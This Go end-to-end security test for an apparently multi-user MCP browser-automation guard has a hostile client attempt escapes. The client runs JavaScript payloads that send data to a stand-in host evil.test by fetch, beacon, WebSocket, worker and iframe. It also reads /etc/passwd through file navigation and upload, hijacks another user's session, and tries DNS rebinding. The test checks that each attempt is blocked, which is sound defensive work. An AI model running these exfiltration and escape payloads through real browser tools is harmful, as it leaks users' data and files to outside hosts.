package e2e

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/cdpguard/cdpguard/e2e/testhosts"
)

// rtMCP: a hostile MCP client (the Go SDK's) as mallory.
func rtMCP(t *testing.T, e *rtEnv) {
	s := mcpConnect(t, e.base, "mallory")
	call(t, s, "browser_navigate", map[string]any{"url": userURL(e.h, "mallory-mcp")}, false)
	ws := "ws://evil.test:" + fmt.Sprint(e.h.Forbidden.Port)
	for _, fn := range []string{
		`() => { window.open("` + e.evil("mcp-open") + `"); return 1 }`,
		`() => { location.href = "file:///etc/passwd"; return 1 }`,
		`() => fetch("` + e.evil("mcp-fetch") + `").then(() => "sent", (e) => "failed")`,
		`() => { new Worker(URL.createObjectURL(new Blob(['fetch("` + e.evil("mcp-worker") + `").catch(()=>{}); try { new WebSocket("` + ws + `/mcp-worker-ws") } catch (e) {}']))); return 1 }`,
		`() => { try { new WebSocket("` + ws + `/mcp-ws") } catch (e) {} return 1 }`,
		`() => navigator.sendBeacon("` + e.evil("mcp-beacon") + `")`,
		`() => { const f = document.createElement("iframe"); f.src = "` + e.evil("mcp-iframe") + `"; document.body.append(f); return 1 }`,
		`() => new Promise(r => setTimeout(() => r(1), 800))`,
	} {
		call(t, s, "browser_evaluate", map[string]any{"function": fn}, false)
	}
	out := call(t, s, "browser_read", map[string]any{"url": e.evil("mcp-read")}, true)
	mustContain(t, "browser_read of a forbidden URL", out, "evil.test")
	call(t, s, "browser_navigate", map[string]any{"url": "file:///etc/passwd"}, true)
	call(t, s, "browser_navigate", map[string]any{"url": e.h.PageURL("/redirect?to=" + url.QueryEscape(e.evil("mcp-redirect")))}, true)
	e.noLeak(t)
	// Tabs: index games never reach alice's tabs.
	list := call(t, s, "browser_tabs", map[string]any{"action": "list"}, false)
	e.noAlice(t, "mallory's browser_tabs", list)
	if strings.Contains(list, "file:") || strings.Contains(list, "chrome:") {
		t.Errorf("LEAK: a tab left web content: %s", list)
	}
	call(t, s, "browser_file_upload", map[string]any{"element": "x", "ref": "e1", "paths": []string{"/etc/passwd"}}, true)
	for _, idx := range []int{-1, 99, 1 << 40} {
		call(t, s, "browser_tabs", map[string]any{"action": "select", "index": idx}, true)
		call(t, s, "browser_tabs", map[string]any{"action": "close", "index": idx}, true)
	}
	// A ref of alice's snapshot used by mallory.
	a := mcpConnect(t, e.base, "alice")
	call(t, a, "browser_navigate", map[string]any{"url": userURL(e.h, "alice") + "&mcp=1"}, false)
	snap := call(t, a, "browser_snapshot", nil, false)
	ref := refOf(t, snap, "open popup")
	call(t, s, "browser_click", map[string]any{"element": "alice's button", "ref": ref}, true)
	// Alice's Mcp-Session-Id with mallory's header: the header is the
	// user, so the call drives mallory's browser, never alice's.
	body := `{"jsonrpc":"2.0","id":99,"method":"tools/call","params":{"name":"browser_tabs","arguments":{"action":"list"}}}`
	req, _ := http.NewRequest(http.MethodPost, e.base+"/mcp", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	req.Header.Set("Mcp-Session-Id", a.ID())
	req.Header.Set("Mcp-Protocol-Version", "2025-06-18")
	req.Header.Set(userHeader, "mallory")
	if resp, err := http.DefaultClient.Do(req); err == nil {
		var b strings.Builder
		buf := make([]byte, 64<<10)
		for {
			n, err := resp.Body.Read(buf)
			b.Write(buf[:n])
			if err != nil {
				break
			}
		}
		resp.Body.Close()
		e.noAlice(t, "alice's MCP session with mallory's header", b.String())
		t.Logf("alice's session id with mallory's header: %d %.200s", resp.StatusCode, b.String())
	}
	// Giant arguments.
	call(t, s, "browser_evaluate", map[string]any{"function": "() => '" + strings.Repeat("x", 70<<10) + "'"}, true)
	call(t, s, "browser_navigate", map[string]any{"url": e.h.PageURL("/?" + strings.Repeat("a", 9<<10))}, true)
	// After browser_close, the next call starts afresh.
	call(t, s, "browser_close", nil, false)
	list = call(t, s, "browser_tabs", map[string]any{"action": "list"}, false)
	e.noAlice(t, "mallory's tabs after browser_close", list)
	// A flood of calls at once: one user's calls run one after another.
	var wg sync.WaitGroup
	for range 12 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			_, _ = s.CallTool(ctx, &mcp.CallToolParams{Name: "browser_tabs", Arguments: map[string]any{"action": "new"}})
		}()
	}
	wg.Wait()
	// alice's MCP browser is untouched.
	got := call(t, a, "browser_evaluate", map[string]any{"function": "() => location.search"}, false)
	mustContain(t, "alice's MCP page after mallory's attacks", got, "user=alice")
	// Control: browser_evaluate's fetch reaches an allowed listener.
	call(t, a, "browser_evaluate", map[string]any{"function": `() => fetch("` + e.h.Sink.Origin() + testhosts.HitPath("rt-mcp-control") + `").then(r => r.status)`}, false)
	if e.h.Sink.Hits(testhosts.HitPath("rt-mcp-control")) == 0 {
		t.Errorf("control: browser_evaluate's fetch did not reach the sink")
	}
	// A 5 MB argument: the server answers 413 (the Go SDK client then
	// closes its session); other users' sessions go on.
	big := mcpConnect(t, e.base, "mallory")
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	_, err := big.CallTool(ctx, &mcp.CallToolParams{Name: "browser_type", Arguments: map[string]any{"element": "x", "ref": "e1", "text": strings.Repeat("y", 5<<20)}})
	cancel()
	if err == nil || !strings.Contains(err.Error(), "Too Large") {
		t.Errorf("5 MB argument: %v, want 413", err)
	}
	call(t, a, "browser_tabs", map[string]any{"action": "list"}, false)
	// DNS rebinding and web pages against /mcp.
	for _, hd := range []map[string]string{{"Host": "evil.test"}, {"Origin": "http://evil.test"}, {"Sec-Fetch-Site": "cross-site"}} {
		req, _ := http.NewRequest(http.MethodPost, e.base+"/mcp", strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}`))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		req.Header.Set(userHeader, "mallory")
		for k, v := range hd {
			if k == "Host" {
				req.Host = v
			} else {
				req.Header.Set(k, v)
			}
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Errorf("/mcp with %v: %v", hd, err)
			continue
		}
		resp.Body.Close()
		if resp.StatusCode < 400 {
			t.Errorf("/mcp with %v: %d, want a refusal", hd, resp.StatusCode)
		}
	}
}
